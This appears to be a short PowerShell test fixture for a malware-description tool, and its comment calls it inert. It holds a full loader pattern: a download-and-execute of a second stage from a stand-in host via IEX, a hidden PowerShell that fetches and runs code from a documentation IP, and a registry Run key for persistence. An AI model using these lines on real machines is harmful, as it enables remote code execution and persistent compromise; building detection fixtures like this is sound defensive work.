# Test fixture written for automaldesc: inert (documentation addresses only).
$u = 'http://update.example/stage2.txt'
$wc = New-Object System.Net.WebClient
$d = $wc.DownloadString($u)
IEX $d
Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -c "irm http://198.51.100.7/x | iex"'
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Upd' -Value 'powershell -w hidden -f C:\Users\Public\u.ps1'
